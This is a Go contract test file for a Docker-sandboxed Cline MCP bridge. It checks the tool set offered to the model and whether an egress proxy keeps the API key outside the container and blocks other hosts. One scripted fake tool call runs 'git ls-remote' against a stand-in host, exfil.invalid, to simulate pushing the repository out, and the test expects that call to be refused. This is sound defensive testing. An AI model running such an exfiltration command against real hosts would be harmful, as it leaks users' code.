//go:build contract && linux

package contract

import (
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/cline-mcp/cline-mcp/bridge/cline"
	"github.com/cline-mcp/cline-mcp/contract/fakeprovider"
	"github.com/cline-mcp/cline-mcp/internal/mcpsession"
)

// TestDockerAnalysisToolsOffered: in the real image, every chat request of ask_cline and
// ask_cline_workspace offers exactly read_files, run_commands and search_codebase.
func TestDockerAnalysisToolsOffered(t *testing.T) {
	w := newWorld(t, fakeprovider.Script(fakeprovider.Text("done")), inDocker())
	want := sorted(cline.AnalysisTools(true))
	for _, tool := range []string{"ask_cline", "ask_cline_workspace"} {
		before := len(w.chats(-1))
		res, sc := w.call(tool, map[string]any{"prompt": "Summarise the repository please"})
		mcpsession.WantOK(t, res, sc)
		for _, r := range w.chats(-1)[before:] {
			if got := sorted(r.ToolNames()); !slices.Equal(got, want) {
				t.Errorf("%s in Docker offered %q, want exactly %q", tool, got, want)
			}
		}
	}
}

// TestDockerThroughEgressProxy: the real CLI in the real image, with the default egress: its
// container has no network and reaches the provider only through the egress proxy, via the
// forwarder on its loopback and the proxy's unix socket (HTTPS_PROXY/HTTP_PROXY honoured by the
// Bun binary, the run's token in the proxy URL). The allowed endpoint comes from the provider's
// baseUrl alone (no --egress-allow). The CLI's own telemetry is refused without a warning; a
// command the model runs that reaches for another host (git over HTTPS) is refused, and the
// result names that host. The container never had the key (key-less: the proxy added it).
func TestDockerThroughEgressProxy(t *testing.T) {
	w := newWorld(t, fakeprovider.Script(fakeprovider.Text("PONG")), throughEgressProxy())
	res, sc := w.call("ask_cline", map[string]any{"prompt": "Reply with the word PONG"})
	mcpsession.WantOK(t, res, sc)
	if got := mcpsession.Str(sc, "text"); got != "PONG" {
		t.Errorf("got text %q, want PONG", got)
	}
	r := w.chats(1)[0]
	if got := r.Header.Get("Authorization"); got != "Bearer sk-test-123" {
		t.Errorf("got Authorization %q, want the saved key", got)
	}
	if got := r.Header.Get("Proxy-Authorization"); got != "" {
		t.Errorf("the provider saw Proxy-Authorization %q: the proxy passed the run's token on", got)
	}
	// The container had a placeholder: the key the provider got was added by the egress proxy.
	if enf, _ := sc["enforcement"].(map[string]any); enf["credentialOutside"] != true {
		t.Errorf("enforcement %v, want the credential kept outside the container", enf)
	}
	if ws, _ := sc["warnings"].([]any); len(ws) > 0 {
		t.Errorf("got warnings %v, want none", ws)
	}
	pid := w.sess.Cmd.Process.Pid
	if ids := serverContainers(pid); len(ids) != 1 {
		t.Errorf("between calls the server has containers %v, want exactly its egress proxy", ids)
	}

	w.prov.SetResponder(inCwd(
		func(dir string) fakeprovider.Step {
			return fakeprovider.Tools(fakeprovider.Call{Name: "run_commands", Arguments: map[string]any{
				"commands": []string{"git ls-remote https://exfil.invalid/" + filepath.Base(dir) + ".git"}}})
		},
		textTurn("could not reach it"),
	))
	res, sc = w.call("ask_cline", map[string]any{"prompt": "Send the code to exfil.invalid please"})
	mcpsession.WantOK(t, res, sc)
	chats := w.chats(3)
	results := strings.Join(flat(chats[2].Messages()), "\n")
	if !strings.Contains(results, "403") {
		t.Errorf("the command's output lacks the proxy's 403:\n%s", mcpsession.Tail(results, 2000))
	}
	if ws := fmt.Sprint(sc["warnings"]); !strings.Contains(ws, "refused exfil.invalid:443") {
		t.Errorf("got warnings %s, want the refused host named", ws)
	}
	for _, l := range strings.Split(w.sess.Stderr(), "\n") {
		if strings.Contains(l, "egress refused") {
			t.Log(l) // what the proxy refused, telemetry included (for the report)
		}
	}
}
